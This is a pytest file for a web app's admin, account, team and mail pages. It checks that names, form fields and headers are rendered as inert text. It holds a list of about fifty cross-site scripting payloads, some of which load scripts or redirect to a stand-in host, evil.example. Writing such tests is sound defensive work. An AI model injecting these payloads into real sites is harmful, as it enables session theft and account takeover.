"""Text that would like to be a script: shown as it was typed, wherever it is shown."""

from html.parser import HTMLParser

import pytest

from literacy.accounts.models import Person
from literacy.lib.db import Database
from literacy.lib.mail import compose
from tests import make
from tests.browsing import Browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) x=",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java&#x09;script:alert(1)'>click</a>",
    "<form action=javascript:alert(1)><button>x</form>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "{{ 7 * 7 }}{% raw %}<b>x</b>",
    "{{ config.items() }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\uff1cscript\uff1ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    (
        "x\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
        '"<svg/onload=alert(1)//<html'
    ),
    "javascript:alert(1)//a",
    # These are harmless to one parser and live to the next, which nests them otherwise.
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
]
PLAIN = {"name": "Maya", "company": "Fernhill"}
OURS = {"script", "style", "iframe", "object", "embed", "base", "img", "video", "audio", "marquee"}


class Page(HTMLParser):
    """What a browser would do with a page: its elements, handlers and script addresses."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in OURS and not (given.get("src") or "").startswith("/static/"):
            self.found.append(tag)
        self.found += [name for name in given if name.startswith("on") or name == "style"]
        self.found += [
            value
            for name, value in attrs
            if name in ("href", "src", "action", "formaction", "data", "srcdoc")
            and value
            and not value.startswith(("/", "#", "./"))
        ]


def live(response) -> list[str]:
    return Page(response.get_data(as_text=True)).found


@pytest.fixture
def rosa(people: make.People, signed_in) -> Browser:
    return signed_in(people.rosa)


def test_the_check_itself_sees_what_is_live() -> None:
    assert Page("<img src=x onerror=alert(1)>").found == ["img", "onerror", "x"]
    assert Page("<a href=javascript:alert(1)>").found == ["javascript:alert(1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_names_and_jobs_are_text(
    rosa: Browser, people: make.People, signed_in, payload: str
) -> None:
    maya = signed_in(people.maya)
    text = f"a{payload}"[:120]

    saved = maya.post("/me/", name=text, job=text, theme="auto")
    pages = [
        saved if saved.status_code == 422 else maya.get("/me/"),
        rosa.get("/admin/"),
        rosa.get(f"/admin/people/{people.maya.id}"),
        rosa.get(f"/admin/people/{people.maya.id}/role"),
        rosa.get(f"/admin/people/{people.maya.id}/teams"),
        rosa.get(f"/admin/people/{people.maya.id}/deactivation"),
        rosa.get("/admin/audit"),
    ]

    assert [live(page) for page in pages] == [[]] * 7


@pytest.mark.parametrize("payload", PAYLOADS)
def test_team_names_are_text(rosa: Browser, people: make.People, payload: str) -> None:
    made = rosa.post("/admin/teams", name=f"a{payload}"[:80])
    again = rosa.post("/admin/teams", name=f"a{payload}"[:80])
    renamed = rosa.post("/admin/teams/campaigns", name=f"b{payload}"[:80])

    pages = [
        made if made.status_code == 422 else again,
        renamed if renamed.status_code == 422 else rosa.get("/admin/teams/campaigns"),
        rosa.get("/admin/teams"),
        rosa.get("/admin/people/new"),
        rosa.get("/admin/"),
        rosa.get("/admin/audit"),
    ]
    assert [live(page) for page in pages] == [[]] * 6


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_refused_is_shown_as_text(
    rosa: Browser, people: make.People, app, database: Database, payload: str
) -> None:
    stranger = Browser(app)

    pages = [
        stranger.post("/login", email=payload, password=payload, next=payload),
        stranger.post("/password/forgot", email=payload),
        stranger.get("/login", query_string={"next": payload}),
        rosa.post(
            "/admin/people/new", email=payload, name=payload, role=payload, member_of=payload
        ),
        rosa.post(f"/admin/people/{people.maya.id}/role", role=payload, seen=payload),
        rosa.post(f"/admin/people/{people.maya.id}/teams", member_of=payload, seen=payload),
        rosa.get("/admin/", query_string={"q": payload, "team": payload, "role": payload}),
        rosa.get("/admin/audit", query_string={"action": payload, "person": payload}),
        rosa.get(f"/admin/teams/{payload}"),
    ]

    assert [live(page) for page in pages] == [[]] * 9
    assert {page.status_code for page in pages} <= {200, 303, 308, 404, 409, 422}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("template", ["accounts/invitation", "accounts/reset"])
def test_a_name_in_a_mail_is_text(payload: str, template: str) -> None:
    values = {
        "name": payload,
        "email": "maya@example.com",
        "company": payload,
        "origin": "",
        "link": "/x",
    }

    letter = compose(template, to="maya@example.com", values=values)
    harmless = compose(template, to="maya@example.com", values={**values, **PLAIN})

    assert Page(letter.html).found == Page(harmless.html).found
    assert "\n" not in letter.subject


def test_a_browsers_own_name_is_text(people: make.People, app, database: Database) -> None:
    browser = Browser(app)
    data = {
        "email": "maya@example.com",
        "password": make.PASSWORD,
        "csrf_token": browser.form_token(),
    }
    browser.client.post("/login", data=data, headers={"User-Agent": "<img src=x onerror=alert(1)>"})

    page = browser.client.get("/me/")

    assert live(page) == []
    assert "Unknown browser" in page.get_data(as_text=True)
    with database.reading() as session:
        assert session.get_one(Person, people.maya.id).name == "Maya Okafor"
